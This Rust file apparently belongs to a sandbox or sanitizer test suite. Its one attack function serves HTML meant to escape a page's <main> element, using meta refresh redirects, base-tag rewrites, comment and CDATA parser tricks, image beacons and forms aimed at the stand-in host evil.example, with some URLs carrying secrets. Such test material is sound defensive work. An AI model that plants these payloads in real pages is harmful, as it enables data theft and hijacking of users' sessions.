//! Tries to leave the page, or the `<main>` it is put into, by markup alone.

use veillee_sdk::{Call, Error, Response};

use crate::loot::raw_page;

const MAIN: &str = r#"<h1>meta refresh</h1>
<meta http-equiv="refresh" content="0;url=http://evil.example/?d=secret">
<META HTTP-EQUIV='Refresh' CONTENT='0;URL=//evil.example/'>
<meta http-equiv="content-security-policy" content="default-src *">
<meta name="referrer" content="unsafe-url">
<base href="http://evil.example/"><base target="_top">
<link rel="prefetch" href="http://evil.example/p"><link rel="dns-prefetch" href="//d.evil.example">
<link rel="preconnect" href="http://evil.example/"><link rel="stylesheet" href="/-/blob/id/original">
<title>another title</title><head><body onload="alert(1)" class="owned"><html lang="xx">
<noscript><p title="</noscript><img src=http://evil.example/n>"></noscript>
<p>before</main></body></html><h2 id="escaped">outside main</h2><main><p>inside again
</div></div></section></article></main></main><footer>forged footer</footer>
<!-- comment --><!--> --!> <img src="http://evil.example/c"> --><![CDATA[<img src="http://evil.example/d">]]>
<!-- <img src="http://evil.example/e"> --!><b>after</b> <!doctype html><?php echo 1 ?><%= 1 %>
<textarea><script>alert(1)</script></textarea><plaintext>swallowed</plaintext>
<xmp><img src="http://evil.example/x"></xmp><iframe src="/-/account" srcdoc="<p>hi"></iframe>
<table><tr><td><table></main><form><form action="http://evil.example/"><p><h1><h2>
<img src="http://evil.example/i" srcset="http://evil.example/s 2x, /-/blob/id/original 1x" alt="">
<a href="//evil.example/">out</a><a href="http://evil.example/?d=secret" rel="opener" target="_top">out</a>
<a href="/-/leave?to=http%3A%2F%2Fevil.example%2F">politely out</a>
<b><b><b><b><i><a><table><select><option><optgroup><button><svg><math><mi><mglyph><template><p>unclosed <b title="
"#;

pub fn attack(_call: &mut Call<'_>) -> Result<Response, Error> {
    Ok(raw_page("meta refresh", MAIN))
}
